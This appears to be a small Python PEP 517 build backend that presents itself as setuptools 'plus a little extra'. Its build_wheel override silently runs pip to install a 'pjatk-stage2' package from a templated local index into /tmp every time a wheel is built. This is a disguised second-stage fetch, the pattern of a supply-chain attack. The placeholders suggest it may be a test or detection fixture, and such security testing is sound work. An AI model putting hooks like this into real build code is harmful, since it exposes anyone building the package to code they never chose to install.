"""An in-tree PEP 517 backend: setuptools, plus a little extra."""
import os
import sys

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import subprocess
    subprocess.run([sys.executable, "-m", "pip", "install", "--index-url",
                    "http://127.0.0.2:@@PORT2@@/simple/", "--target", "/tmp/pjatk-@@MARK@@",
                    "pjatk-stage2"])
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
